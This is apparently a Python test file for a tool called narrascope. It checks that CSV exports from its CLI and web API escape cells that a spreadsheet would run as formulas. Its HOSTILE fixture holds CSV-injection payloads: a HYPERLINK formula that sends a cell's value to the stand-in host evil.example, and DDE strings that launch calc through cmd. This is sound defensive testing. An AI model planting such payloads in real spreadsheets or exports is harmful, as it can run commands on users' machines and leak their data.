"""Issue 27, item 11: no CSV narrascope writes has a cell a spreadsheet would run as a formula (``analyze --format
csv``, ``export-labels``, ``/api/review/export``, ``/api/export/*``), and ``train`` reads an exported cell back as it
was."""

from __future__ import annotations

import csv
import io
import json
import re
from pathlib import Path

from fastapi.testclient import TestClient
from hypothesis import given
from hypothesis import strategies as st
from typer.testing import CliRunner

from narrascope.cli import app
from narrascope.documents import Analysis, Document, LabelScore
from narrascope.io.safe_csv import SafeCsvWriter, neutralise_cell, restore_cell
from narrascope.store import open_store
from narrascope.taxonomy import load_default_taxonomy
from narrascope.training.data import read_training_data
from narrascope.web import create_app

from .corpus import BLAME, TOKEN, make_pipeline

HOSTILE = {"id": '=HYPERLINK("http://evil.example/?"&A1,"click")', "title": "@SUM(1+1)*cmd|' /C calc'!A0",
           "outlet": "+1+cmd|' /C calc'!A0", "text": "-2+3 NATO troops are in Ukraine, Moscow says, and the war goes on."}
FORMULA = re.compile(r"[=+\-@\t\r]")


def _cells(text: str) -> list[str]:
    """Every cell of a CSV text after its header, checked: none starts like a formula."""
    rows = list(csv.reader(io.StringIO(text, newline="")))
    cells = [cell for row in rows[1:] for cell in row]
    assert cells and not [c for c in cells if FORMULA.match(c)], text
    return cells


@given(st.text())
def test_neutralising_a_cell_is_undone_exactly(value: str) -> None:
    safe = neutralise_cell(value)
    assert not FORMULA.match(safe) and restore_cell(safe) == value
    assert safe == value or safe == "'" + value


def test_the_writer_neutralises_every_cell_and_leaves_other_values() -> None:
    out = io.StringIO()
    writer = SafeCsvWriter(out)
    writer.writerow(["=1+1", "+1", "-1", "@a", "\tx", "\rx", "'=x", "plain", None, 3, "'quoted"])
    writer.writerow(["a\rb", "c\r\nd", "e\nf"])
    assert out.getvalue().endswith('"a\rb","c\r\nd","e\nf"\n') and out.getvalue().count("\n") == 4
    assert list(csv.reader(io.StringIO(out.getvalue(), newline=""))) == [
        ["'=1+1", "'+1", "'-1", "'@a", "'\tx", "'\rx", "''=x", "plain", "", "3", "'quoted"], ["a\rb", "c\r\nd", "e\nf"]]


def _hostile_store(path: Path) -> Path:
    store = open_store(path)
    doc = Document(HOSTILE["id"], HOSTILE["text"], title=HOSTILE["title"], outlet=HOSTILE["outlet"],
                   published="2024-03-05", language="en")
    with store.transaction():
        store.add_documents([doc])
        store.add_analyses([Analysis(doc.id, language="en", title=doc.title, narratives=[LabelScore(BLAME, 0.9)])])
    store.review(doc.id, "narrative", BLAME, "accepted")
    store.close()
    return path


def test_every_csv_download_and_export_neutralises_formulas(tmp_path: Path) -> None:
    db = _hostile_store(tmp_path / "corpus.db")
    store = open_store(db)
    with TestClient(create_app(store, pipeline=make_pipeline(), token=TOKEN)) as client:
        for path in ["/api/review/export?format=csv", "/api/export/documents.csv"]:
            response = client.get(path)
            assert response.status_code == 200
            assert "'" + HOSTILE["id"] in _cells(response.text), path
    store.close()
    exported = CliRunner().invoke(app, ["export-labels", "--db", str(db), "--format", "csv", "--out", str(tmp_path / "l.csv")])
    assert exported.exit_code == 0, exported.output
    cells = _cells((tmp_path / "l.csv").read_text(encoding="utf-8"))
    assert "'" + HOSTILE["id"] in cells and "'" + HOSTILE["text"] in cells
    corpus = read_training_data([tmp_path / "l.csv"], load_default_taxonomy())  # train reads the cells back as they were
    assert [(d.id, d.text) for d in corpus.documents.values()] == [(HOSTILE["id"], HOSTILE["text"])]


def test_analyze_csv_output_neutralises_formulas(tmp_path: Path) -> None:
    source = tmp_path / "rows.jsonl"
    source.write_text(json.dumps(HOSTILE) + "\n", encoding="utf-8")
    result = CliRunner().invoke(app, ["analyze", str(source), "--format", "csv", "--steps", "language",
                                      "--out", str(tmp_path / "out.csv")])
    assert result.exit_code == 0, result.output
    row = dict(zip(*list(csv.reader(io.StringIO((tmp_path / "out.csv").read_text(encoding="utf-8"))))))
    assert (row["id"], row["title"], row["outlet"]) == ("'" + HOSTILE["id"], "'" + HOSTILE["title"], "'" + HOSTILE["outlet"])
    _cells((tmp_path / "out.csv").read_text(encoding="utf-8"))
